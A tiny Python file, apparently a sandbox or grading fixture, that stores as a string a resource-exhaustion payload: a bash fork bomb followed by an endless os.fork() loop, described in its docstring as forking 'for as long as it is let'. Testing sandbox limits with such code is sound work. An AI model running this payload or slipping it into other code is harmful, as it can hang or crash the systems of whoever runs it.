"""Forks for as long as it is let, in Python and in the shell."""

POINTS = 0
BEFORE = r'''
import os, subprocess
try:
    subprocess.run(["bash", "-c", ":(){ :|:& };:"], timeout=2)
except Exception:
    pass
while True:
    try:
        os.fork()
    except OSError:
        pass
'''
